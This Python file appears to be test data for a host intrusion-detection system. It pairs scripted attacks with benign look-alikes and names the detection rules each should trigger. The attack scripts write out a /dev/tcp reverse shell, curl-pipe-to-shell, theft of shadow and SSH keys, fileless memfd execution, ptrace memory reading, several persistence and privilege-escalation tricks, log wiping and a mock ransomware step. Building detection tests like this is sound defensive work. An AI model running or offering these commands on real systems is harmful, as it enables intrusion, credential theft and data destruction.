"""The stories: what an intruder does, and what somebody does who has a reason to. Every step is real.

A script is run by `bash`, as root in a service of its own, so each is a session; several scripts of one story
are several sessions. One that logs in begins another session, and says so ($MARK). Addresses lead nowhere: a
connection is tried and not answered.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

from tests.guest.corpus.world import INSIDE, OUTSIDE, USER


@dataclass(frozen=True, slots=True)
class Story:
    """An attack and its benign twin."""

    name: str
    told_by: frozenset[str]
    """Rules and sequences of which at least one must tell of the attack, and none of the twin."""
    attack: tuple[str, ...]
    benign: tuple[str, ...]


def connect(address: str, *ports: int) -> str:
    """A program that addresses ports, one after the other, and does not wait for an answer."""
    return (
        "import socket\n"
        f"for port in {ports!r}:\n"
        "    peer = socket.socket(); peer.setblocking(False)\n"
        f"    peer.connect_ex(('{address}', port))\n"
    )


def python(code: str) -> str:
    """A step in Python: system calls that no ordinary tool makes."""
    return f"python3 - <<'END'\n{code}\nEND\n"


def program(path: str, code: str) -> str:
    """A program file of the intruder's, or of an administrator's."""
    return f"cat >{path} <<'END'\n#!/usr/bin/python3\n{code}\nEND\n"


PTRACE_AND_READ: Final = f"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
victim = subprocess.Popen(['sleep', '60'])
libc.ptrace(16, victim.pid, 0, 0); os.waitpid(victim.pid, 0x40000000)
start = int(open(f'/proc/{{victim.pid}}/maps').readline().split('-')[0], 16)
buffer = ctypes.create_string_buffer(64)
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
here = Part(ctypes.cast(buffer, ctypes.c_void_p), 64)
libc.process_vm_readv(victim.pid, ctypes.byref(here), 1, ctypes.byref(Part(start, 64)), 1, 0)
victim.kill()
{connect(OUTSIDE, 443)}"""

FROM_MEMORY: Final = f"""
import os, shutil
fd = os.memfd_create('x', 0)
os.write(fd, open('/usr/bin/python3.11', 'rb').read())
code = '''{connect(OUTSIDE, 4444)}'''
os.execv(f'/proc/self/fd/{{fd}}', ['kworker', '-c', code])
"""

SCRATCH_MEMORY: Final = f"""
import os
fd = os.memfd_create('cache', 0)
os.write(fd, b'x' * 4096)
{connect(OUTSIDE, 443)}"""

STORIES: Final = (
    Story(
        "a downloaded scanner",
        frozenset({"download-run-scan", "written-file-scans"}),
        (
            program("/tmp/.update", connect(INSIDE, 5432, 6379, 9200, 27017))
            + "chmod 755 /tmp/.update\n/tmp/.update\n",
        ),
        (program("/tmp/install", connect(INSIDE, 443)) + "chmod 755 /tmp/install\n/tmp/install\n",),
    ),
    Story(
        "a scanner that one session writes and another runs",
        frozenset({"written-file-scans"}),
        (
            program("/var/tmp/agent", connect(INSIDE, 22, 80, 443, 5432)) + "chmod 755 /var/tmp/agent\n",
            "/var/tmp/agent\n",
        ),
        (
            program("/var/tmp/report", connect(INSIDE, 443)) + "chmod 755 /var/tmp/report\n",
            "/var/tmp/report\n",
        ),
    ),
    Story(
        "a program from memory calls home",
        frozenset({"nameless-program-calls-home", "exec-nameless"}),
        (python(FROM_MEMORY),),
        (python(SCRATCH_MEMORY),),
    ),
    Story(
        "secrets are collected, packed and sent",
        frozenset({"secrets-collected-and-sent"}),
        (
            "cat /etc/shadow /etc/ssh/ssh_host_ed25519_key /root/.bash_history >/dev/shm/a\n"
            "tar -czf /tmp/a.tgz -C /dev/shm a\n" + python(connect(OUTSIDE, 443)),
        ),
        ("tar -czf /tmp/site.tgz -C /etc/nginx .\n" + python(connect(OUTSIDE, 443)),),
    ),
    Story(
        "the memory of another program is read and sent",
        frozenset({"memory-read-and-sent"}),
        (python(PTRACE_AND_READ),),
        (python("open('/proc/self/maps').read()\n" + connect(OUTSIDE, 443)),),
    ),
    Story(
        "a user becomes root by a forgotten program and stays",
        frozenset({"root-and-no-traces", "became-root-in-session"}),
        (
            f"echo $(id -u {USER}) >/proc/self/loginuid; $MARK\n"
            f"setpriv --reuid={USER} --clear-groups /usr/local/bin/forgotten -p -c '"
            "echo key >>/root/.ssh/authorized_keys; rm -f /var/log/auth.log /root/.bash_history'\n",
        ),
        (
            f"echo $(id -u {USER}) >/proc/self/loginuid; $MARK\n"
            f"setpriv --reuid={USER} --clear-groups sudo -n sh -c 'echo key >>/root/.ssh/authorized_keys'\n",
        ),
    ),
    Story(
        "files are encrypted and a note is left",
        frozenset({"files-are-encrypted", "ransom-note"}),
        (
            "cd /srv/files; for n in $(seq 12); do mv report-$n report-$n.locked; done\n"
            "echo pay >HOW_TO_DECRYPT_FILES.txt\n",
        ),
        (
            "cd /srv/files; for n in $(seq 12); do cp report-$n new; mv new report-$n.old; done\n"
            "echo done >README.txt\n",
        ),
    ),
    Story(
        "a web service looks around and reaches out",
        frozenset({"web-service-looks-around"}),
        (
            "/usr/local/sbin/php-fpm8.2 -c 'cat /etc/passwd /etc/os-release /proc/version /proc/net/tcp "
            ">/dev/null; true'\n" + python(connect(OUTSIDE, 443)),
        ),
        ("/usr/local/sbin/php-fpm8.2 -c 'date >/dev/null; true'\n" + python(connect(OUTSIDE, 443)),),
    ),
    Story(
        "configurations, known hosts, then a login elsewhere",
        frozenset({"configuration-then-login"}),
        (
            "cat /etc/nginx/nginx.conf /etc/redis/redis.conf /etc/fstab /root/.ssh/known_hosts >/dev/null\n"
            f"timeout 3 ssh -o BatchMode=yes -o ConnectTimeout=1 root@{INSIDE} true || true\n",
        ),
        (f"timeout 3 ssh -F none -o BatchMode=yes -o ConnectTimeout=1 root@{INSIDE} true || true\n",),
    ),
    Story(
        "a temporary program comes back by cron",
        frozenset({"temporary-program-settles"}),
        (
            program("/tmp/setup", "open('/etc/cron.d/update', 'w').write('* * * * * root /tmp/setup\\n')\n")
            + "chmod 755 /tmp/setup\n/tmp/setup\n",
        ),
        ("echo '0 3 * * * root /usr/local/bin/backup' >/etc/cron.d/backup\n",),
    ),
    Story(
        "out of a namespace into the kernel",
        frozenset({"container-reaches-the-host", "kernel-helper-write"}),
        (
            "unshare -U -r true; old=$(cat /proc/sys/kernel/core_pattern)\n"
            'for to in \'|/tmp/payload\' "$old"; do echo "$to" >/proc/sys/kernel/core_pattern; done\n',
        ),
        ("unshare -U -r true; cat /proc/sys/kernel/core_pattern >/dev/null\n",),
    ),
    Story(
        "a library is put before all programs",
        frozenset({"loader-config-write"}),
        ("cp /bin/true /usr/local/lib/libx.so; : >>/etc/ld.so.preload; rm -f /etc/ld.so.preload\n",),
        ("mkdir -p /usr/local/lib/app; cp /bin/true /usr/local/lib/app/libx.so; ldconfig -p >/dev/null\n",),
    ),
    Story(
        "a shell over the network, by the shell alone",
        frozenset({"shell-network-file"}),
        (f"timeout 1 bash -c 'exec 3<>/dev/tcp/{OUTSIDE}/4444; sh <&3 >&3' || true\n",),
        ("bash -c 'exec 3</dev/null; sh <&3'\n",),
    ),
    Story(
        "a script of the network is run unseen",
        frozenset({"download-into-shell"}),
        (f"timeout 2 sh -c 'curl -s --max-time 1 http://{OUTSIDE}/i.sh | sh' || true\n",),
        (f"timeout 2 curl -s --max-time 1 -o /root/i.sh http://{OUTSIDE}/i.sh || true\n",),
    ),
    Story(
        "a dropped page is run by the web server's folder",
        frozenset({"exec-from-web-root"}),
        (
            "mkdir -p /var/www/html/up; cp /usr/bin/id /var/www/html/up/x; chmod 755 /var/www/html/up/x\n"
            "/var/www/html/up/x >/dev/null\n",
        ),
        ("mkdir -p /var/www/html/up; echo '<p>hello' >/var/www/html/up/index.html\n",),
    ),
    Story(
        "passwords are taken by a login module",
        frozenset({"login-modules-write"}),
        (
            "cp /bin/true /usr/lib/security-pam; mkdir -p /usr/lib/security; "
            "cp /usr/lib/security-pam /usr/lib/security/pam_x.so; echo '# x' >>/etc/pam.d/su\n",
        ),
        ("cat /etc/pam.d/su >/dev/null; su -s /bin/true nobody\n",),
    ),
    Story(
        "a user is made root for later",
        frozenset({"sudoers-write"}),
        (f"echo '{USER} ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/later; rm /etc/sudoers.d/later\n",),
        ("sudo -n -l >/dev/null\n",),
    ),
    Story(
        "the hashes are read, copied and cracked elsewhere",
        frozenset({"shadow-read-in-session"}),
        (
            f"echo $(id -u {USER}) >/proc/self/loginuid; $MARK\n"
            "cp /etc/shadow /dev/shm/s; gzip -c /dev/shm/s >/tmp/s.gz; rm /dev/shm/s\n"
            + python(connect(OUTSIDE, 443)),
        ),
        (
            f"echo $(id -u {USER}) >/proc/self/loginuid; $MARK\n"
            f"getent passwd >/dev/null; chage -l {USER} >/dev/null\n",
        ),
    ),
    Story(
        "a disk is written behind its file system",
        frozenset({"disk-write"}),
        ("dd if=/dev/zero of=/dev/vdz bs=512 count=1 2>/dev/null; rm -f /dev/vdz\n",),
        ("dd if=/dev/zero of=/srv/disk.img bs=1M count=1 2>/dev/null; mkfs.ext4 -q /srv/disk.img\n",),
    ),
    Story(
        "many weak signals of one temporary program",
        frozenset({"temporary-program-settles", "written-file-scans"}),
        (
            program(
                "/dev/shm/.k",
                "import os\n"
                + connect(INSIDE, 22, 3306, 5432)
                + "os.makedirs('/root/.config/systemd/user', exist_ok=True)\n"
                "open('/root/.bashrc', 'a').write('# x\\n')\n",
            )
            + "chmod 700 /dev/shm/.k\n/dev/shm/.k\n",
        ),
        (
            program("/root/maintain", connect(INSIDE, 22, 3306, 5432))
            + "chmod 700 /root/maintain\n/root/maintain\n",
        ),
    ),
    Story(
        "another's program is taken over",
        frozenset({"memory-read-and-sent", "exec-nameless"}),
        (python(PTRACE_AND_READ.replace("'sleep', '60'", "'cat'")) + python(FROM_MEMORY),),
        ("sleep 0.1 & kill $!; wait\n",),
    ),
)
